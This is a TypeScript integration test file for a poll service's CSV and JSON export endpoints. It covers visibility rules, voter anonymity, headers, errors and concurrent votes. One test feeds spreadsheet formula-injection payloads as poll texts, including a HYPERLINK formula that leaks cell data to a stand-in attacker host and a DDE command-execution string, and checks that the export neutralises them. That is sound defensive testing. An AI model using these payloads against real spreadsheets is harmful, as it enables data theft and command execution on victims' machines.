import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { linesOf, someVoters } from '../support/bulk-host.ts'
import { type Answer, createHttpClient, type HttpClient, type Say } from '../support/http-client.ts'
import { createCheckedClient } from '../support/openapi-document.ts'
import { adminToken, type Profile, type RunningSystem, startSystem } from '../support/running-system.ts'
import { waitUntil } from '../support/wait-until.ts'

const audiences = ['stranger', 'voter', 'organiser', 'operator'] as const
type Audience = (typeof audiences)[number]
const voterVisibilities = ['secret', 'organizer', 'public'] as const
type VoterVisibility = (typeof voterVisibilities)[number]

/** Who sees results of an open poll, and of a closed one. */
const seesResults = {
  always: { open: audiences, closed: audiences },
  after_vote: { open: ['voter', 'organiser', 'operator'], closed: audiences },
  after_close: { open: ['organiser', 'operator'], closed: audiences },
  never: { open: ['organiser', 'operator'], closed: ['organiser', 'operator'] },
} as const satisfies Record<string, Record<'open' | 'closed', readonly Audience[]>>
type ResultsVisibility = keyof typeof seesResults

/** Who sees single votes, if results at all. */
const seesVotes = {
  secret: [],
  organizer: ['organiser', 'operator'],
  public: audiences,
} as const satisfies Record<VoterVisibility, readonly Audience[]>

const tables = Object.keys(seesResults).flatMap((results) =>
  // The keys of that table.
  voterVisibilities.map((votes) => [results as ResultsVisibility, votes] as const),
)

type OwnPoll = { readonly id: string; readonly path: string; readonly shows: Readonly<Record<Audience, Say>> }

describe.each<Profile>(['redis', 'postgres'])('the export of a poll, on %s', (profile) => {
  let system: RunningSystem
  let call: HttpClient
  const disagreements: string[] = []

  beforeAll(async () => {
    system = await startSystem(profile)
    call = await createCheckedClient(system.url, disagreements)
  })
  afterAll(async () => {
    await system.stop()
  })

  async function makePoll(more: object = {}): Promise<OwnPoll> {
    const json = { question: 'Tea or coffee?', options: ['Tea', 'Coffee'], ...more }
    const { status, body } = await call('POST', '/polls', { json })
    expect(status).toBe(201)
    const path = `/polls/${body.id}`
    const voted = await call('POST', `${path}/vote`, { json: { option_id: 2 } })
    const shows = {
      stranger: {},
      voter: { voterToken: voted.body.voter_token },
      organiser: { bearer: body.manage_token },
      operator: { bearer: adminToken },
    }
    return { id: body.id, path, shows }
  }

  async function counts(path: string, total: number): Promise<void> {
    const isCounted = async () => (await call('GET', path, { bearer: adminToken })).body.total_votes === total
    await waitUntil(isCounted, { withinMs: 20_000, what: `${total} votes are counted` })
  }

  async function voteInBulk(path: string, votes: number, optionIds: readonly number[]): Promise<void> {
    const headers = { 'content-type': 'application/x-ndjson' }
    const raw = linesOf(someVoters(votes), optionIds)
    expect((await call('POST', `${path}/votes/bulk`, { raw, headers, bearer: adminToken })).status).toBe(200)
  }

  /** The answer without what is of its own request. */
  const lasting = ({ status, headers, text }: Answer) => {
    const { date, 'x-request-id': requestId, ...others } = Object.fromEntries(headers)
    return [status, others, text.replaceAll(requestId ?? '', ''), date === undefined]
  }

  async function exportAll(path: string, say: Say) {
    const totals = await call('GET', `${path}/export.csv`, say)
    const votes = await call('GET', `${path}/export.csv?part=votes`, say)
    const json = await call('GET', `${path}/export.json`, say)
    return { totals, votes, json }
  }

  async function expectShown(poll: OwnPoll, audience: Audience, results: boolean, votes: boolean): Promise<void> {
    const all = await exportAll(poll.path, poll.shows[audience])
    expect([all.totals.status, all.votes.status, all.json.status]).toEqual([200, votes ? 200 : 403, 200])
    expect(rows(all.totals)).toEqual([
      ['option_id', 'text', 'votes', 'percent', 'total_votes', 'question'],
      ['1', 'Tea', ...(results ? ['1', '33.33', '3'] : ['', '', '']), 'Tea or coffee?'],
      ['2', 'Coffee', ...(results ? ['2', '66.67', '3'] : ['', '', '']), 'Tea or coffee?'],
    ])
    const { poll: shown, totals, votes: single } = all.json.body
    expect(shown).toEqual((await call('GET', poll.path, poll.shows[audience])).body)
    const known = (await call('GET', `${poll.path}/results`, poll.shows[audience])).body
    expect(totals).toEqual({ ...known, as_of: results ? expect.any(String) : null })
    expect([totals.total_votes, totals.version === null]).toEqual(results ? [3, false] : [null, true])
    if (!votes) {
      expect([single, all.votes.body.code]).toEqual([null, 'forbidden'])
      return
    }
    const chosen = single.map(({ option_ids: optionIds }: { readonly option_ids: number[] }) => optionIds)
    expect(chosen.toSorted()).toEqual([[1], [2], [2]])
    const lines = single.map(
      ({ voter, option_ids: [id] }: { readonly voter: string; readonly option_ids: number[] }) => {
        return [voter, String(id), id === 1 ? 'Tea' : 'Coffee']
      },
    )
    // Each export has an order of its own.
    const [head, ...rest] = rows(all.votes)
    expect([head, new Set(rest)]).toEqual([['voter', 'option_id', 'text'], new Set(lines)])
  }

  test.each(tables)(
    'shows who may see results (%s) the totals, and single votes to those who may see these too (%s)',
    async (results, votes) => {
      const poll = await makePoll({ results_visibility: results, voter_visibility: votes })
      await voteInBulk(poll.path, 2, [1, 2])
      await counts(poll.path, 3)
      for (const status of ['open', 'closed'] as const) {
        if (status === 'closed') {
          await call('POST', `${poll.path}/close`, { bearer: adminToken })
          await waitUntil(async () => (await call('GET', poll.path)).body.status === 'closed')
        }
        for (const audience of audiences) {
          const hasResults = (seesResults[results][status] as readonly Audience[]).includes(audience)
          const hasVotes = hasResults && (seesVotes[votes] as readonly Audience[]).includes(audience)
          await expectShown(poll, audience, hasResults, hasVotes)
        }
      }
      expect(disagreements).toEqual([])
    },
  )

  test('of hidden results is the same to the byte when a vote arrives', async () => {
    for (const [results, audience] of [
      ['after_vote', 'stranger'],
      ['after_close', 'voter'],
      ['never', 'stranger'],
    ] as const) {
      const poll = await makePoll({ results_visibility: results, voter_visibility: 'public' })
      await counts(poll.path, 1)
      const before = Object.values(await exportAll(poll.path, poll.shows[audience])).map(lasting)
      await voteInBulk(poll.path, 5, [1])
      await counts(poll.path, 6)
      expect(Object.values(await exportAll(poll.path, poll.shows[audience])).map(lasting)).toEqual(before)
    }
  })

  test('has no byte of a voter key or of a place in the stream, and other names for voters in every poll and round', async () => {
    const first = await makePoll({ voter_visibility: 'public', allow_vote_change: true })
    const { voterToken = '' } = first.shows.voter
    await voteInBulk(first.path, 40, [1, 2])
    const second = await makePoll({ voter_visibility: 'public' })
    await call('POST', `${second.path}/vote`, { json: { option_id: 1 }, voterToken })
    await counts(first.path, 41)
    await counts(second.path, 2)

    const namesIn = async ({ path }: OwnPoll): Promise<readonly string[]> => {
      const exported = await exportAll(path, { bearer: adminToken })
      for (const text of await secretsOf(system)) {
        for (const answer of Object.values(exported)) expect(answer.text).not.toContain(text)
      }
      return exported.json.body.votes.map(({ voter }: { readonly voter: string }) => voter)
    }
    const names = await namesIn(first)
    expect(names.length).toBe(41)
    expect(names).toSatisfy((all: string[]) => all.every((name) => /^v_[0-9a-f]{24}$/.test(name)))
    expect(new Set(names).size).toBe(41)
    expect(new Set(await namesIn(first))).toEqual(new Set(names))
    expect((await namesIn(second)).filter((name) => names.includes(name))).toEqual([])

    await call('POST', `${first.path}/reset`, { bearer: adminToken })
    await call('POST', `${first.path}/open`, { bearer: adminToken })
    await call('POST', `${first.path}/vote`, { json: { option_id: 1 }, voterToken })
    await counts(first.path, 1)
    const inRoundTwo = await namesIn(first)
    expect([inRoundTwo.length, inRoundTwo.filter((name) => names.includes(name))]).toEqual([1, []])
  })

  test('has a changed vote once under the same name, and a retracted one no more', async () => {
    const { path, shows } = await makePoll({
      voter_visibility: 'public',
      allow_vote_change: true,
      type: 'multiple',
      max_choices: 2,
    })
    await counts(path, 1)
    const [before] = (await call('GET', `${path}/export.json`)).body.votes
    await call('PUT', `${path}/vote`, { json: { option_ids: [1, 2] }, ...shows.voter })
    const votes = async () => (await call('GET', `${path}/export.json`)).body.votes
    await waitUntil(async () => (await votes())[0].option_ids.length === 2)
    expect(await votes()).toEqual([{ voter: before.voter, option_ids: [1, 2] }])
    const csv = await call('GET', `${path}/export.csv?part=votes`)
    expect(csv.text).toBe(`voter,option_id,text\r\n"${before.voter}",1,"Tea"\r\n"${before.voter}",2,"Coffee"\r\n`)
    await call('DELETE', `${path}/vote`, shows.voter)
    await waitUntil(async () => (await votes()).length === 0)
    expect((await call('GET', `${path}/export.csv?part=votes`)).text).toBe('voter,option_id,text\r\n')
    await counts(path, 0)
    expect(rows(await call('GET', `${path}/export.csv`))[1]).toEqual(['1', 'Tea', '0', '0', '0', 'Tea or coffee?'])
  })

  test('keeps formulas, quotes and line breaks of texts from doing anything in a spreadsheet', async () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"win")'
    const options = [formula, '+1', '-1', '@SUM(A1)', '\tx', '\r=1', 'a,"b"\r\nc', '＝1+1', 'plain']
    const json = { question: '=cmd|"/c calc"!A1', options, voter_visibility: 'public' }
    const made = await call('POST', '/polls', { json })
    expect(made.status).toBe(201)
    const path = `/polls/${made.body.id}`
    await call('POST', `${path}/vote`, { json: { option_id: 1 } })
    await counts(path, 1)
    const totals = await call('GET', `${path}/export.csv`)
    const votes = await call('GET', `${path}/export.csv?part=votes`)
    const safe = made.body.options.map(({ text }: { readonly text: string }) =>
      /^[=+\-@\t\r＝]/.test(text) ? `'${text}` : text,
    )
    expect(rows(totals).map(([, text]) => text)).toEqual(['text', ...safe])
    expect(rows(totals)[1]?.at(-1)).toBe(`'=cmd|"/c calc"!A1`)
    expect(rows(votes)[1]?.at(-1)).toBe(`'${formula}`)
    expect(totals.text).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""win"")",1,100,1,`)
    const shown = (await call('GET', `${path}/export.json`)).body.poll
    expect(shown.options.map(({ text }: { readonly text: string }) => text)).toEqual(
      made.body.options.map(({ text }: { readonly text: string }) => text),
    )
  })

  test('is a file of its own name that nobody keeps, and can be asked for its head', async () => {
    const { id, path } = await makePoll({ voter_visibility: 'public' })
    await counts(path, 1)
    for (const [form, name, type] of [
      ['csv', `poll-${id}.csv`, 'text/csv; charset=utf-8; header=present'],
      ['csv?part=totals', `poll-${id}.csv`, 'text/csv; charset=utf-8; header=present'],
      ['csv?part=votes', `poll-${id}-votes.csv`, 'text/csv; charset=utf-8; header=present'],
      ['json', `poll-${id}.json`, 'application/json; charset=utf-8'],
    ]) {
      for (const method of ['GET', 'HEAD']) {
        const { status, headers, text } = await call(method, `${path}/export.${form}`)
        const named = ['content-type', 'content-disposition', 'cache-control'].map((header) => headers.get(header))
        expect([status, ...named]).toEqual([200, type, `attachment; filename="${name}"`, 'private, no-store'])
        expect([method, text === '']).toEqual([method, method === 'HEAD'])
        expect(headers.get('x-request-id')).toMatch(/./)
      }
    }
  })

  test('is refused as a problem, before a byte of a file, where there is none', async () => {
    const { path } = await makePoll({ results_visibility: 'always' })
    const other = await makePoll()
    for (const form of ['csv', 'csv?part=votes', 'json']) {
      for (const [address, say, status, code] of [
        ['/polls/unknown', {}, 404, 'poll_not_found'],
        [path, { bearer: 'nonsense' }, 401, 'token_invalid'],
        [path, other.shows.organiser, 403, 'forbidden'],
      ] as const) {
        const answer = await call('GET', `${address}/export.${form}`, say)
        expect([form, answer.status, answer.body.code]).toEqual([form, status, code])
        expect(answer.headers.get('content-type')).toContain('application/problem+json')
        expect(answer.headers.get('content-disposition')).toBeNull()
      }
    }
    for (const query of ['part=', 'part=all', 'part=votes&part=totals', 'parts=votes']) {
      expect([query, (await call('GET', `${path}/export.csv?${query}`)).status]).toEqual([query, 422])
    }
    expect((await call('POST', `${path}/export.csv`)).headers.get('allow')).toBe('GET, HEAD')
    await call('DELETE', path, { bearer: adminToken })
    expect((await call('GET', `${path}/export.json`)).body.code).toBe('poll_not_found')
    expect(disagreements).toEqual([])
  })

  test('has totals that add up to its votes, while others vote', async () => {
    const { path } = await makePoll({ voter_visibility: 'public' })
    const plain = createHttpClient(system.url)
    let isVoting = true
    const voting = (async () => {
      while (isVoting) await voteInBulk(path, 50, [1, 2])
    })()
    let last = 0
    const isGrowing = async (): Promise<boolean> => {
      const { totals, votes } = (await plain('GET', `${path}/export.json`)).body
      const counted = [1, 2].map((id) => votes.filter((vote: { option_ids: number[] }) => vote.option_ids[0] === id))
      expect(totals.options.map((option: { votes: number }) => option.votes)).toEqual(counted.map((all) => all.length))
      expect(totals.total_votes).toBe(votes.length)
      last = Math.max(last, votes.length)
      return last > 2_000
    }
    try {
      await waitUntil(isGrowing, { withinMs: 50_000, what: () => `2000 votes, not ${last}` })
    } finally {
      isVoting = false
      await voting
    }
  }, 60_000)
})

function rows({ text }: Answer): readonly (readonly string[])[] {
  return parse(text, { recordDelimiter: '\r\n' })
}

/** All voter keys and positions of the ledger, in every way in which bytes are usually written. */
async function secretsOf({ database }: RunningSystem): Promise<readonly string[]> {
  const { rows: votes } = await database.pool.query<{ bytes: Buffer }>(
    'select voter as bytes from vote union all select position from vote',
  )
  expect(votes.length).toBeGreaterThan(20)
  return votes.flatMap(({ bytes }) => {
    const written = (['hex', 'base64', 'base64url', 'latin1'] as const).map((encoding) => bytes.toString(encoding))
    // Half of it would be enough to find the row.
    return [...written, bytes.toString('hex', 0, 8), bytes.toString('hex', 8), String(bytes.readBigUInt64BE(0))]
  })
}
